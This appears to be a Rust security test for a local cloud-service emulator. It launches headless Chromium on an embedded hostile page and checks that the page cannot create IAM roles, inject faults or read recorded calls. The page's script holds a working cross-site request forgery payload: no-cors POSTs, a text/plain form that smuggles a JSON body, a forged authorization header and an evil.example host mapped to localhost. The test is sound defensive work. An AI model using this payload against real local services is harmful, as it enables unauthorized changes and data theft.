//! What a page in a real browser can do to the emulator, where Chromium is installed: nothing.

use crate::{Cloud, Options};
use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::body::Incoming;
use hyper::{Request, Response};
use hyper_util::rt::TokioIo;
use serde_json::Value;
use std::path::PathBuf;
use std::process::Stdio;
use std::time::Duration;
use tokio::net::TcpListener;
use tokio::sync::mpsc::{UnboundedSender, unbounded_channel};

/// Only a browser that hangs takes as long.
const LIMIT: Duration = Duration::from_mins(1);

/// Tries each address with all that a page may send without being asked, then tells the server it came from what it could read.
const PAGE: &str = r#"<!doctype html><iframe name="frame"></iframe><script>
const call = "Action=CreateRole&Version=2010-05-08&RoleName=page&AssumeRolePolicyDocument=%7B%7D";
const fault = '{"kind": "access-denied", "service": "iam", "operation": "ListRoles"}';
const requests = [
  ["/", {method: "POST", mode: "no-cors", body: new URLSearchParams(call)}],
  ["/_local/faults", {method: "POST", mode: "no-cors", body: fault}],
  ["/_local/faults", {method: "POST", headers: {"content-type": "application/json"}, body: fault}],
  ["/_local/faults", {method: "DELETE"}],
  ["/_local/calls", {}],
  ["/?Action=CreateRole", {mode: "no-cors"}],
  ["/?Action=ListRoles", {headers: {authorization: "AWS4-HMAC-SHA256 Credential=test/20260101/us-east-1/iam/aws4_request"}}],
];
function submit(address) {
  const form = document.createElement("form");
  Object.assign(form, {method: "post", enctype: "text/plain", target: "frame", action: address + "/_local/faults"});
  const field = document.createElement("input");
  Object.assign(field, {name: fault.slice(0, -1) + ', "padding": "', value: '"}'});
  form.append(field);
  document.body.append(form);
  form.submit();
  return new Promise(done => document.querySelector("iframe").addEventListener("load", done, {once: true}));
}
async function attack() {
  const read = [];
  for (const address of ADDRESSES) {
    for (const [path, options] of requests) {
      try {
        const text = await (await fetch(address + path, options)).text();
        if (text) read.push(address + path + ": " + text);
      } catch (refused) {}
    }
    await Promise.race([submit(address), new Promise(done => setTimeout(done, 2000))]);
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(read)});
}
attack();
</script>"#;

fn chromium() -> Option<PathBuf> {
    let path = std::env::var_os("PATH")?;
    let names = ["chromium", "chromium-browser", "google-chrome"];
    std::env::split_paths(&path)
        .flat_map(|folder| names.map(|name| folder.join(name)))
        .find(|program| program.is_file())
}

/// A server of somebody else's pages. What they report arrives in the channel.
async fn serve(page: String, listener: TcpListener, reports: UnboundedSender<String>) {
    while let Ok((stream, _)) = listener.accept().await {
        let (page, reports) = (page.clone(), reports.clone());
        let service = hyper::service::service_fn(move |request: Request<Incoming>| {
            let (page, reports) = (page.clone(), reports.clone());
            async move {
                if request.uri().path() == "/report" {
                    let body = request.into_body().collect().await?.to_bytes();
                    let _ = reports.send(String::from_utf8_lossy(&body).into_owned());
                }
                let response = Response::builder().header("content-type", "text/html");
                Ok::<_, hyper::Error>(response.body(Full::new(Bytes::from(page))).unwrap())
            }
        });
        tokio::spawn(async move {
            let _ = hyper::server::conn::http1::Builder::new()
                .serve_connection(TokioIo::new(stream), service)
                .await;
        });
    }
}

#[tokio::test]
async fn a_page_in_chromium_changes_and_reads_nothing() {
    let Some(program) = chromium() else {
        println!("Chromium is not installed: no page in a real browser was tried");
        return;
    };
    let cloud = Cloud::start(Options::default()).await.unwrap();
    let port = cloud.endpoint().rsplit(':').next().unwrap().to_owned();
    let addresses = [
        cloud.endpoint().to_owned(),
        format!("http://localhost:{port}"),
        format!("http://evil.example:{port}"),
        cloud.ministack.url(),
    ];
    let page = PAGE.replace("ADDRESSES", &serde_json::to_string(&addresses).unwrap());
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let own = listener.local_addr().unwrap().port();
    let (reports, mut reported) = unbounded_channel();
    let server = tokio::spawn(serve(page, listener, reports));
    for host in ["evil.example", "127.0.0.1", "localhost"] {
        let profile = tempfile::tempdir().unwrap();
        let mut browser = tokio::process::Command::new(&program)
            .args(["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--no-proxy-server"])
            .arg("--host-resolver-rules=MAP evil.example 127.0.0.1")
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .arg(format!("http://{host}:{own}/"))
            .env("HOME", profile.path())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .kill_on_drop(true)
            .spawn()
            .unwrap();
        let read = tokio::time::timeout(LIMIT, reported.recv()).await;
        browser.kill().await.unwrap();
        let read = read.unwrap_or_else(|_| panic!("the page of {host} reported nothing")).unwrap();
        assert_eq!(serde_json::from_str::<Value>(&read).unwrap(), Value::Array(Vec::new()), "{host}");
    }
    server.abort();
    assert!(
        cloud.recorder().since(0).is_empty(),
        "a call of a page was served: {:?}",
        cloud.recorder().since(0)
    );
    let roles = super::studio::aws(&cloud, "iam list-roles").await;
    assert_eq!(roles.unwrap()["Roles"], Value::Array(Vec::new()), "a page planned a fault or made a role");
    cloud.stop().await;
}
